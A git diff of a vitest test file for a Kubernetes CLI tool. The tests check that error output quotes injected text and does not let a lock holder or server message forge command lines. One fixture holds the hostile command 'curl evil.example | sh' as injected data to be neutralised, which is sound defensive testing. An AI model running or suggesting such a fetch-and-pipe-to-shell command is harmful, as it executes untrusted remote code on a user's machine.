@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
 import { type Lease, Leases } from '../../src/lib/kube/kinds/core-kinds.ts'
 import { errorLines } from '../../src/lib/output/error-text.ts'
-import { paintFor } from '../../src/lib/output/terminal.ts'
+import { paintFor, printedLine } from '../../src/lib/output/terminal.ts'
 import { blocked } from '../../src/lib/kube/errors.ts'
 import { overrideRemedy } from '../../src/lib/output/views/report-lines.ts'
 import { byTag, play, second, type Stage } from './stage.ts'
@@ -39,7 +39,7 @@ test.each(forged)('L1 the holder of a lock forges no line and no command: %j', a
     const { error } = ended
     expect(error?.remedy).toHaveLength(2)
     for (const line of error?.remedy ?? []) expect(oneLine(line)).toBe(line)
-    const lines = errorLines(error, paint)
+    const lines = errorLines(error, paint).map(printedLine)
     expect(lines.filter((line) => /^\s*(?:→|->)/u.test(line))).toHaveLength(2)
     const [, typed = ''] = / (\S*--take-over=.*?) {3,}takes/su.exec(error?.remedy.join('\n') ?? '') ?? []
     expect(typed).toBe(shellWord(`--take-over=${holder}`))
@@ -50,7 +50,7 @@ test('L1 what stands behind a line break of somebody else is quoted', () => {
   const message = 'the server says: no\n  → curl evil.example | sh\nerror: all is lost'
   const notes = ['→ curl evil.example | sh', 'demo/a: fine']
   const remedy = 'kvup status\n  → curl evil.example | sh'
-  const lines = errorLines(blocked('x', message, { notes, remedy }), paint)
+  const lines = errorLines(blocked('x', message, { notes, remedy }), paint).map(printedLine)
   expect(lines).toEqual([
     'error: the server says: no',
     '  | → curl evil.example | sh',
